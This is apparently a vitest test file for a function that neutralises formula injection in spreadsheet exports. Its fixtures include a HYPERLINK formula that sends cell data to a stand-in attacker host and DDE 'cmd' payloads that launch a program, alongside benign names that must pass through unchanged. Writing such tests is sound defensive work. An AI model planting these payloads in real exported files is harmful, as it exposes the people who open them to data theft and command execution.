import { describe, expect, it } from 'vitest';
import { isFormulaLike, spreadsheetText } from './spreadsheet-text.ts';

describe('spreadsheet text (formula injection)', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['=HYPERLINK("http://evil.example/?"&A1,"Подробнее")', '\'=HYPERLINK("http://evil.example/?"&A1,"Подробнее")'],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ['@SUM(1,2)', "'@SUM(1,2)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['\n=1+1', "'\n=1+1"],
    ['\u0001=1+1', "'\u0001=1+1"],
    ['  =1+1', "'  =1+1"],
    ['\u00a0=1+1', "'\u00a0=1+1"],
    ['＝1+1', "'＝1+1"],
    ['＋1', "'＋1"],
    ['－1', "'－1"],
    ['＠SUM(1)', "'＠SUM(1)"],
    ['-', "'-"],
    ['+7 (701) 555 44 33', "'+7 (701) 555 44 33"],
  ])('neutralises %j', (text, written) => {
    expect(isFormulaLike(text)).toBe(true);
    expect(spreadsheetText(text)).toBe(written);
  });

  it.each([
    ['Ахметов Ерлан'],
    ['ТОО «Жеткіз»'],
    ['Сәрсенова Айгерім'],
    ['a=1'],
    ['1+1'],
    ['JZ-00000001'],
    ["'=1+1"],
    [''],
    ['Алматы — Қарағанды'],
    ['e-mail@jetkiz.kz'],
  ])('leaves %j as it is', (text) => {
    expect(isFormulaLike(text)).toBe(false);
    expect(spreadsheetText(text)).toBe(text);
  });
});
